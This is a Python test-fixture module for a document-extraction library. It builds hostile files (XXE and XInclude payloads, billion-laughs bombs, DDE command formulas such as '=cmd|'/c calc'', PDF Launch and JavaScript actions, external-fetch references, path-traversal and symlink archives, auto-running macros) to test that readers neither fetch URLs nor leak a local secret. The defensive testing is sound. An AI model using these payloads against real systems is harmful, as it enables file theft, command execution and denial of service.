"""Files that would make a careless program fetch, read or write something: `url` is an address that must never be asked for, `secret` a
file on this machine whose content must never appear."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path

from gongkai.extractors.containers._ole_write import compound_file
from gongkai.extractors.readers._compound import Tree

from .containers.archive_files import rar4, rar5, raw_zip, tarred, zipped
from .containers.test_mail import file as outlook
from .containers.test_mail import folder, wide
from .readers.doc_files import p as doc_p
from .readers.doc_files import streams
from .readers.docx_files import data_with, docx, package, relationships
from .readers.docx_files import p as paragraph
from .readers.ofd_files import TABLE, ofd, page, text
from .readers.office_files import docx_that_fetches, odt, odt_that_fetches, odt_that_runs, rtf_that_fetches
from .readers.pdf_files import Sheets
from .readers.pdf_objects import stream, updated
from .readers.sheet_files import changed, saved, xls, xlsx
from .readers.test_doc import WORD_2003
from .readers.test_spreadsheet import SHEET_XML
from .readers.test_spreadsheet_faults import ODS, ods

FIGURE = "12.50"
"""Stands in every file, so that it is worth reading."""
_ROWS = [["项目", "金额"], ["合计", FIGURE]]
_PICTURE = '<w:drawing><a:blip xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:embed="rPicture"/></w:drawing>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def attacks(url: str, secret: str) -> dict[str, tuple[str, str]]:
    """By name what stands in front of an XML document, and what takes the place of its figure."""
    include = f'{FIGURE}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{{}}" parse="text"/>'
    return {
        "entity-file": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{secret}">]>', f"{FIGURE}&x;"),
        "entity-url": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/entity">]>', f"{FIGURE}&x;"),
        "parameter-entity": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>', FIGURE),
        "parameter-entity-file": (
            f"<!DOCTYPE r [<!ENTITY % p SYSTEM '{secret}'><!ENTITY % q '<!ENTITY x \"%p;\">'> %q;]>",
            f"{FIGURE}&x;",
        ),
        "dtd": (f'<!DOCTYPE r SYSTEM "{url}/a.dtd">', FIGURE),
        "public-dtd": (f'<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{url}/b.dtd">', FIGURE),
        "xinclude-file": ("", include.format(secret)),
        "xinclude-url": ("", include.format(f"{url}/include")),
        "stylesheet": (f'<?xml-stylesheet href="{url}/a.xsl" type="text/xsl"?>', FIGURE),
        "schema": (
            "",
            f'{FIGURE}<x:y xmlns:x="urn:x" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {url}/a.xsd"/>',
        ),
    }


def bombs() -> dict[str, tuple[str, str]]:
    """As `attacks`: entities that grow without end."""
    laughs = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))
    return {
        "billion-laughs": (f'<!DOCTYPE r [<!ENTITY e0 "lol">{laughs}]>', f"{FIGURE}&e9;"),
        "quadratic": (f'<!DOCTYPE r [<!ENTITY x "{"a" * 60_000}">]>', FIGURE + "&x;" * 60_000),
        "in-an-attribute": (f'<!DOCTYPE r [<!ENTITY e0 "lol">{laughs}]>', f'{FIGURE}<a b="&e9;"/>'),
        "parameter": (
            "<!DOCTYPE r [" + "<!ENTITY % a 'x'>" + "".join(f"<!ENTITY % b{n} '%a;%a;'>" for n in range(9)) + "%b8;]>",
            FIGURE,
        ),
    }


def carriers() -> dict[str, Callable[[str, str], bytes]]:
    """By name what makes a file out of an attack, in each format that is XML or a package of it."""

    def inside(data: bytes, member: str) -> Callable[[str, str], bytes]:
        return lambda head, figure: changed(data, member, lambda xml: attacked(xml, head, figure))

    book = saved(xlsx(("表", _ROWS))[0])
    report = docx(paragraph(f"支出{FIGURE}万元"))
    with_picture = package(
        {
            **dict(_members(docx(paragraph(f"支出{FIGURE}万元") + paragraph(_PICTURE)))),
            "word/_rels/document.xml.rels": relationships(
                f'<Relationship Id="rPicture" Type="{_OFFICE}/image" Target="media/a.svg"/>'
            ),
            "word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><text>{FIGURE}</text></svg>',
        }
    )
    drawn = ofd(page(text(20, 20, f"支出{FIGURE}万元")))
    xhtml = f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>支出{FIGURE}万元</p></body></html>'.encode()
    word = WORD_2003.format(styles="", body=paragraph(f"支出{FIGURE}万元")).encode()
    sheet = SHEET_XML.format("UTF-8").replace("1234.5", FIGURE).encode()
    return {
        "报告.docx": inside(report, "word/document.xml"),
        "关系.docx": inside(report, "word/_rels/document.xml.rels"),
        "图.docx": inside(with_picture, "word/media/a.svg"),
        "表.xlsx": inside(book, "xl/worksheets/sheet1.xml"),
        "文字.xlsx": inside(book, "xl/sharedStrings.xml"),
        "表.ods": inside(ods(ODS.format(1).replace("62%", FIGURE)), "content.xml"),
        "报告.odt": inside(odt(f"<text:p>支出{FIGURE}万元</text:p>"), "content.xml"),
        "页.ofd": inside(drawn, "Doc_0/Pages/Page_0/Content.xml"),
        "根.ofd": inside(drawn, "OFD.xml"),
        "表.xml": lambda head, figure: attacked(sheet, head, figure),
        "报告.xml": lambda head, figure: attacked(word, head, figure),
        "网页.html": lambda head, figure: attacked(xhtml, head, figure),
    }


def attacked(xml: bytes, head: str, figure: str) -> bytes:
    """`xml` with something in front of its root, and in the place of its figure; where it has none, at the end of its root."""
    content = xml.decode()
    start = content.index("?>") + 2 if content.startswith("<?xml") else 0
    content = content[:start] + head + content[start:]
    if FIGURE in xml.decode():
        return content.replace(FIGURE, figure, 1).encode()
    end = content.rindex("</") if "</" in content else len(content)
    return (content[:end] + figure.removeprefix(FIGURE) + content[end:]).encode()


def _members(data: bytes) -> Iterator[tuple[str, bytes]]:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        yield from ((name, opened.read(name)) for name in opened.namelist())


def fetching(url: str, secret: Path) -> dict[str, bytes]:
    """By name files that refer to something outside in the ways of their format."""
    uri = secret.as_uri()
    return {
        "网页.html": _page(url, uri).encode(),
        "转向.html": f'<html><head><meta http-equiv="refresh" content="0; url={url}/refresh"></head><body>{FIGURE}万元<script>location="{url}/js"</script></body></html>'.encode(),
        "框架.html": f'<html><frameset><frame src="{url}/frame.html"><frame src="{uri}"></frameset></html>'.encode(),
        "存档.mht": _archive(url, uri),
        "链接.docx": docx_that_fetches(url),
        "模板.docx": _with_template(url),
        "链接.xlsx": _linked_book(url, uri),
        "公式.csv": f"项目,金额\n合计,{FIGURE}\n\"=cmd|'/c touch {secret}.made'!A1\",\"=WEBSERVICE(\"\"{url}/csv\"\")\"\n".encode(),
        "公式.xls": _formulas(url),
        "公式.xml": SHEET_XML.format("UTF-8").replace("1234.5", FIGURE).replace("<Cell ss:StyleID=\"m\">", f"<Cell ss:StyleID=\"m\" ss:HRef=\"{url}/x\" ss:Formula=\"=WEBSERVICE(&quot;{url}/y&quot;)\">").encode(),
        "外部.ods": _linked_ods(url, uri),
        "外部.odt": odt_that_fetches(url),
        "外部.rtf": rtf_that_fetches(url),
        "对象.rtf": rf"{{\rtf1\ansi {FIGURE}\par {{\object\objautlink\objupdate\rsltpict{{\*\objclass Word.Document.8}}{{\*\objdata 01050000}}}}{{\field{{\*\fldinst INCLUDETEXT {secret}}}{{\fldrslt 1}}}}{{\*\template {url}/a.dotx}}}}".encode(),
        "动作.pdf": _acting_pdf(url, secret),
        "外部.ofd": _linked_ofd(url, uri),
        "图片.md": f"# 决算\n\n支出{FIGURE}万元 ![a]({url}/md.png) <img src='{url}/md2.png'> [x]: {url}/ref\n\n<iframe src='{uri}'></iframe>\n\n| 项目 | 金额 |\n|--|--|\n| ![]({uri}) | 1 |\n".encode(),
        "图片.json": f'[{{"type":"text","text":"支出{FIGURE}万元","page_idx":0}},{{"type":"image","img_path":"{uri}","page_idx":0}},{{"type":"table","img_path":"{url}/j.png","table_body":"<table><tr><td><img src={url}/j2.png>1</td></tr></table>","page_idx":0}}]'.encode(),
        "来信.eml": _mail(url, secret),
        "来信.msg": _outlook(secret),
    }  # fmt: skip


def _page(url: str, uri: str) -> str:
    tags = (
        f'<img src="{url}/img.png"><img srcset="{url}/set.png 2x"><iframe src="{url}/iframe.html"></iframe><iframe src="{uri}"></iframe><object data="{uri}"></object>'
        f'<embed src="{url}/embed.pdf"><video src="{url}/v.mp4" poster="{url}/poster.png"></video><audio src="{url}/a.mp3"></audio><input type="image" src="{url}/input.png">'
        f'<script src="{url}/a.js"></script><link rel="stylesheet" href="{url}/body.css"><svg><image href="{url}/svg.png"/><use href="{uri}#a"/></svg><table background="{url}/t.png"><tr><td>合计</td><td>{FIGURE}</td></tr></table>'
        f'<a href="{url}/表.xlsx" ping="{url}/ping">附件.xlsx</a><form action="{url}/form"><input></form><portal src="{url}/portal"></portal>'
    )
    head = f'<base href="{url}/"><link rel="stylesheet" href="{url}/a.css"><link rel="prefetch" href="{url}/prefetch"><link rel="import" href="{uri}"><style>@import url("{url}/b.css"); body {{ background: url({url}/c.png) }}</style>'
    return f'<!DOCTYPE html><html manifest="{url}/m"><head>{head}</head><body background="{url}/bg.png"><p>支出{FIGURE}万元</p>{tags}</body></html>'


def _archive(url: str, uri: str) -> bytes:
    head = "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
    part = f"--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: {url}/page\r\n\r\n{_page(url, uri)}<img src='cid:x'>\r\n"
    return f"{head}{part}--b\r\nContent-Type: image/png\r\nContent-Location: {uri}\r\n\r\n\r\n--b--\r\n".encode()


def _with_template(url: str) -> bytes:
    members: dict[str, str | bytes] = dict(_members(docx(paragraph(f"支出{FIGURE}万元"))))
    links = "".join(
        f'<Relationship Id="r{kind}" Type="{_OFFICE}/{kind}" Target="{url}/{kind}" TargetMode="External"/>'
        for kind in (
            "attachedTemplate",
            "oleObject",
            "frame",
            "subDocument",
            "image",
            "styles",
            "header",
            "footnotes",
            "aFChunk",
            "package",
        )
    )
    for part in ("word/_rels/settings.xml.rels", "word/_rels/document.xml.rels"):
        members[part] = relationships(links)
    members["word/settings.xml"] = (
        f'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{_OFFICE}"><w:attachedTemplate r:id="rattachedTemplate"/></w:settings>'
    )
    return package(members)


def _linked_book(url: str, uri: str) -> bytes:
    book, (sheet,) = xlsx(("表", _ROWS))
    sheet["A3"] = f'=WEBSERVICE("{url}/ws")'
    sheet["A4"] = "=[1]Sheet1!A1"
    sheet["A5"] = "=cmd|'/c calc'!A1"
    sheet["A6"] = f'=HYPERLINK("{url}/h","x")'
    data = saved(book)
    links = f'<Relationship Id="rId1" Type="{_OFFICE}/externalLinkPath" Target="{url}/book.xlsx" TargetMode="External"/><Relationship Id="rId2" Type="{_OFFICE}/image" Target="{uri}" TargetMode="External"/>'
    query = f'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="w" type="4" refreshOnLoad="1"><webPr url="{url}/query"/></connection></connections>'
    external = f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_OFFICE}"><externalBook r:id="rId1"/><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return package(
        {
            **dict(_members(data)),
            "xl/externalLinks/externalLink1.xml": external,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(links),
            "xl/connections.xml": query,
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(links),
            "xl/vbaProject.bin": compound_file({"VBA": {"dir": b"x" * 100, "ThisWorkbook": b'Shell("calc")' * 50}}),
        }
    )


def _formulas(url: str) -> bytes:
    import xlwt

    book, (sheet,) = xls(("表", _ROWS))
    sheet.write(3, 0, xlwt.Formula(f'HYPERLINK("{url}/xls";"x")'))
    return saved(book)


def _linked_ods(url: str, uri: str) -> bytes:
    xml = ODS.format(1).replace("62%", FIGURE)
    table = f'<table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="{uri}" table:table-name="a"/>'
    cell = f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{url}/ods&quot;)" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
    dde = f'<office:dde-source office:dde-application="soffice" office:dde-topic="{url}/dde" office:dde-item="a" office:automatic-update="true"/>'
    return ods(xml.replace("<table:table-row>", f"{table}{dde}<table:table-row>{cell}", 1))


def _acting_pdf(url: str, secret: Path) -> bytes:
    made = Sheets().text(60, 60, f"支出{FIGURE}万元").grid([60, 200, 300], [100, 120, 140], _ROWS)
    actions: list[bytes | str] = [
        f"<< /S /URI /URI ({url}/uri) /Next [{{1}} {{2}} {{3}} {{4}} {{5}} {{6}}] >>",
        f"<< /S /Launch /F ({secret}) /Win << /F (cmd.exe) /P (/c calc) >> /Unix << /F (/bin/touch {secret}.made) >> >>",
        f'<< /S /JavaScript /JS (this.submitForm\\("{url}/js"\\); app.launchURL\\("{url}/js2"\\);) >>',
        f"<< /S /GoToR /F << /FS /URL /F ({url}/r.pdf) >> /D [0 /Fit] >>",
        f"<< /S /GoToE /F << /FS /URL /F ({url}/e.pdf) >> /D [0 /Fit] /T << /R /C /N (a) >> >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({url}/submit) >> /Flags 4 >>",
        f"<< /S /ImportData /F ({secret}) >>",
        stream(b"", f"/F ({secret}) /FFilter /ASCIIHexDecode"),
        stream(b"", f"/Type /EmbeddedFile /F << /FS /URL /F ({url}/file) >>"),
        f"<< /Type /Filespec /FS /URL /F ({url}/spec.txt) /EF << /F {{8}} >> >>",
        "<< /Type /Filespec /F (本机.txt) /UF (本机.txt) /EF << /F {7} >> >>",
        stream(b"", f"/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ({secret})"),
        stream(b"", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ({secret}) /Page 0 >>"),
    ]
    return updated(
        made.data(),
        actions,
        page="/AA << /O {0} /C {2} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A {0} >> << /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /AA << /PO {1} >> >>"
        " << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS {10} >>]",
        catalog="/OpenAction {0} /AA << /WC {2} >> /Names << /JavaScript << /Names [(a) {2}] >> /EmbeddedFiles << /Names [(a) {9} (b) {10}] >> >> /URI << /Base ("
        + url + "/base) >>",
    )  # fmt: skip


def _linked_ofd(url: str, uri: str) -> bytes:
    action = f'<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="{url}/uri"/></ofd:Action><ofd:Action Event="DO"><ofd:GotoA AttachID="1"/></ofd:Action></ofd:Actions>'
    return ofd(
        page(
            text(20, 30, f"支出{FIGURE}万元"),
            TABLE,
            template='<ofd:Template TemplateID="7"/><ofd:Template TemplateID="8"/>' + action,
        ),
        common=f'<ofd:PublicRes>{url}/res.xml</ofd:PublicRes><ofd:DocumentRes>{uri}</ofd:DocumentRes><ofd:TemplatePage ID="7" BaseLoc="{url}/t.xml"/>'
        f'<ofd:TemplatePage ID="8" BaseLoc="../../../../../../../..{uri.removeprefix("file://")}"/>',
        body=f"<ofd:Attachments>{uri}</ofd:Attachments><ofd:Signatures>{url}/sign.xml</ofd:Signatures>",
    )


def _mail(url: str, secret: Path) -> bytes:
    uri = secret.as_uri()
    outside = "".join(
        f"--b\r\nContent-Type: message/external-body; {kind}\r\n\r\nContent-Type: text/plain\r\nContent-ID: <{number}>\r\n\r\n\r\n"
        for number, kind in enumerate(
            (
                f'access-type=URL; URL="{url}/external"',
                f'access-type=local-file; name="{secret}"',
                'access-type=anon-ftp; site="127.0.0.1"; name="a"',
            )
        )
    )
    page_ = f"--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Base: {url}/\r\n\r\n{_page(url, uri)}<img src='cid:x'>\r\n"
    named = f'--b\r\nContent-Type: text/plain; name="{secret}"\r\nContent-Location: {uri}\r\nContent-Disposition: attachment; filename="../../../逃出.txt"\r\n\r\n5\r\n'
    return f"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{page_}{outside}{named}--b--\r\n".encode()


def _outlook(secret: Path) -> bytes:
    """Attachments that are references: to a file on this machine."""
    top = folder(32, x0037001F=wide("报送"), x1000001F=wide(f"支出{FIGURE}万元"))
    for number, method in enumerate((2, 3, 4, 7)):
        top[f"__attach_version1.0_#{number:08}"] = folder(
            8, (0x3705, method), x3708001F=wide(str(secret)), x370D001F=wide(str(secret)), x3707001F=wide("本机.txt")
        )
    return outlook(top)


def leading_outside(secret: Path) -> dict[str, bytes]:
    """By name archives whose members would be written or read elsewhere; what they hold is called 逃出."""
    good = f"某局2023年度部门决算\n支出合计{FIGURE}万元\n".encode()
    names = (
        "../逃出.txt",
        "../" * 12 + "tmp/逃出.txt",
        "/tmp/逃出.txt",
        "a/../../逃出.txt",
        "..\\..\\逃出.txt",
        "C:\\逃出.txt",
        "./.././逃出.txt",
    )

    def special(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
        made = tarfile.TarInfo(name)
        made.type, made.linkname = kind, target
        return made

    links: list[tuple[str | tarfile.TarInfo, bytes]] = [
        ("好.txt", good),
        (special("链接.txt", tarfile.SYMTYPE, str(secret)), b""),
        (special("硬链接.txt", tarfile.LNKTYPE, str(secret)), b""),
        (special("上级", tarfile.SYMTYPE, ".."), b""),
        ("上级/逃出.txt", good),
        (special("根", tarfile.SYMTYPE, "/tmp"), b""),
        ("根/逃出.txt", good),
        (special("设备", tarfile.CHRTYPE), b""),
        (special("管道", tarfile.FIFOTYPE), b""),
    ]
    listed = dict.fromkeys(names, good)
    return {
        "名.zip": zipped(listed),
        "链接.zip": raw_zip([("链接.txt".encode(), str(secret).encode())], attributes=0o120777 << 16),
        "名.tar": tarred([(name, good) for name in names]),
        "链接.tar": tarred(links),
        "链接.tar.gz": tarred(links, "w:gz"),
        "名4.rar": rar4(listed),
        "名5.rar": rar5(listed),
    }


def running(written: Path) -> dict[str, bytes]:
    """By name files with programs in them that would write a file."""
    project: Tree = {
        "VBA": {"dir": b"x" * 64, "ThisDocument": b'Sub AutoOpen()\nOpen "x" For Output As #1\nEnd Sub' * 20},
        "PROJECT": b"ID=x",
    }
    main, table, data = streams([doc_p(f"支出{FIGURE}万元")])
    book = dict(_members(saved(xlsx(("表", _ROWS))[0])))
    types = (
        book["[Content_Types].xml"]
        .replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
        .replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.macro", b"application/vnd.ms-excel.sheet.macro"
        )
    )
    return {
        "宏.odt": odt_that_runs(written),
        "宏.doc": compound_file({"WordDocument": main, "1Table": table, "Data": data, "Macros": project}),
        "宏.xlsm": package({**book, "[Content_Types].xml": types, "xl/vbaProject.bin": compound_file(project)}),
        "宏.docm": data_with(docx(paragraph(f"支出{FIGURE}万元")), lambda xml: xml.replace(b"<w:body>", b'<w:body><w:p><w:r><w:instrText>MACROBUTTON AutoOpen</w:instrText></w:r></w:p>')),
    }  # fmt: skip
